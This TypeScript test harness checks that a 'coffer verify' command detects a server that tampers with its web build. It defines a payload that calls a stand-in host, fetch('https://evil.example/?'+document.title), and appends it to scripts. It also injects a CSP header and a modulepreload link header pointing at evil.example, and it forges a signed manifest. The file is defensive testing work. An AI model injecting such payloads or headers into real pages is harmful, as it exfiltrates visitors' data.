import { spawn } from 'node:child_process';
import { createHash } from 'node:crypto';
import { mkdtempSync, readdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { dirname, join } from 'node:path';
import { bundle, findFreePort, startCoffer } from '../../../e2e/support/coffer.ts';
import type { CaseResult } from '../harness/hostile-case.ts';
import { openProxy, type PageLie, type Seen } from './proxy.ts';

/** The pages that were built, and what the build says that they are. */
const webRoot = join(dirname(bundle), '..', '..', 'web', 'dist');
const manifestFile = join(webRoot, 'build-manifest.json');

interface Ended {
  readonly code: number | null;
  readonly said: string;
}

/** The command line as somebody runs it on another machine, in a folder of his own. */
const runCoffer = (folder: string, ...words: readonly string[]): Promise<Ended> =>
  new Promise((resolve) => {
    const child = spawn(process.execPath, [bundle, ...words], {
      cwd: folder,
      stdio: ['ignore', 'pipe', 'pipe'],
    });
    let said = '';
    for (const stream of [child.stdout, child.stderr])
      stream.on('data', (piece: Buffer) => {
        said += piece.toString('utf8');
      });
    child.once('close', (code) => resolve({ code, said }));
  });

interface Lie {
  readonly name: string;
  readonly lie: PageLie;
  /** What must be named; nothing where the server tells the truth. */
  readonly named: string | null;
  /** Instead of the manifest that is at hand. */
  readonly trust?: readonly string[];
}

const evil = Buffer.from('\n;fetch("https://evil.example/?"+document.title);');
const isAt =
  (path: string) =>
  (seen: Seen): boolean =>
    seen.path === path;
const append = (path: string): PageLie => ({
  changeFile: (seen, body) => (isAt(path)(seen) ? Buffer.concat([body, evil]) : body),
});
const withHeader = (path: string, name: string, value: string): PageLie => ({
  changeHeaders: (seen, headers) => (isAt(path)(seen) ? { ...headers, [name]: value } : headers),
});

/** The server's own description of what it serves, under a signature of its own. */
const forged = (path: string, manifest: string, signature: string): PageLie => ({
  changeFile: (seen, body) => {
    if (isAt('/build-manifest.json')(seen)) return Buffer.from(manifest);
    if (isAt('/build-manifest.sig')(seen)) return Buffer.from(signature);
    return isAt(path)(seen) ? Buffer.concat([body, evil]) : body;
  },
  found: ['/build-manifest.sig'],
});

const keyAndForgery = async (folder: string, path: string) => {
  const key = async (name: string): Promise<string> => {
    const { said } = await runCoffer(folder, 'release', 'keygen', join(folder, 'keys', name));
    return /coffer-release-\S+/.exec(said)?.[0] ?? '';
  };
  const [ours] = [await key('ours'), await key('theirs')];
  const changed = Buffer.concat([readFileSync(join(webRoot, path)), evil]);
  const manifest = JSON.parse(readFileSync(manifestFile, 'utf8')) as { files: Record<string, string> };
  manifest.files[path] = createHash('sha256').update(changed).digest('hex');
  const theirs = join(folder, 'keys', 'web');
  const text = `${JSON.stringify(manifest, null, 2)}\n`;
  writeFileSync(join(folder, 'keys', 'build-manifest.json'), text);
  await runCoffer(
    folder,
    'release',
    'sign',
    '--key',
    join(folder, 'keys', 'theirs'),
    '--web',
    dirname(theirs),
  );
  const signature = readFileSync(join(folder, 'keys', 'build-manifest.sig'), 'utf8');
  return { ours, lie: forged(path, text, signature) };
};

const liesOf = async (folder: string): Promise<readonly Lie[]> => {
  const { files } = JSON.parse(readFileSync(manifestFile, 'utf8')) as { files: Record<string, string> };
  const find = (pattern: RegExp): string =>
    Object.keys(files).find((path) => pattern.test(path)) ?? 'missing';
  const [engine, kdf] = [find(/engine\.worker-.*\.js$/), find(/kdf\.worker-.*\.js$/)];
  const scripts = [engine, kdf, find(/^\/assets\/index-.*\.js$/), find(/^\/admin\/assets\/.*\.js$/)];
  const forgery = await keyAndForgery(folder, engine);
  return [
    { name: 'honest', lie: {}, named: null },
    ...[...scripts, '/sw.js', '/', '/admin/', '/vault'].map((path) => ({
      ...{ name: `changed ${path}`, lie: append(path), named: `${path} has other bytes` },
    })),
    {
      name: 'a policy that lets code in',
      lie: withHeader('/', 'content-security-policy', "script-src 'self' https://evil.example"),
      named: '/ has another content security policy',
    },
    {
      name: 'a script by a header',
      lie: withHeader('/', 'link', '<https://evil.example/x.js>; rel=modulepreload'),
      named: '/ comes with the header link',
    },
    {
      name: 'its own manifest under its own signature',
      ...{ lie: forgery.lie, trust: ['--key', forgery.ours], named: 'is not signed by that key' },
    },
  ];
};

/** What is wrong with how a check ended, by the four assertions. */
const judge = ({ named }: Lie, { code, said }: Ended, seen: readonly Seen[], left: readonly string[]) => [
  named === null
    ? code === 0
      ? null
      : `an honest server was refused: ${said.slice(0, 300)}`
    : code === 1 && said.includes(named)
      ? null
      : `exit code ${code}, and not told "${named}": ${said.slice(0, 300)}`,
  seen.some(({ headers }) => /"(cookie|authorization)"/.test(headers)) ? 'who asks was told' : null,
  seen.every(({ method, body }) => method === 'GET' && body.length === 0) ? null : 'something was sent',
  left.length === 0 ? null : `something was kept: ${left.join(', ')}`,
];

/** Whoever holds the server changes what it serves; somebody verifies it from another machine (H30). */
export const changedBuild = async (): Promise<CaseResult> => {
  const folder = mkdtempSync(join(tmpdir(), 'coffer hostile build '));
  const coffer = await startCoffer();
  const proxy = await openProxy(await findFreePort(), coffer.address);
  const failed = new Set<number>();
  const complaints: string[] = [];
  let runs = 0;
  try {
    for (const lie of await liesOf(folder)) {
      const from = proxy.seen.length;
      proxy.lie = lie.lie;
      const words = lie.trust ?? ['--manifest', manifestFile];
      const ended = await runCoffer(folder, 'verify', proxy.address, ...words);
      runs += 1;
      const left = readdirSync(folder).filter((name) => name !== 'keys');
      for (const [i, found] of judge(lie, ended, proxy.seen.slice(from), left).entries()) {
        if (found === null) continue;
        failed.add(i);
        complaints.push(`${lie.name}: ${found}`);
      }
    }
  } finally {
    await proxy.close();
    await coffer.stop();
    rmSync(folder, { recursive: true, force: true });
  }
  return { id: 'H30', ok: failed.size === 0, asserted: 4 - failed.size, runs, complaints };
};
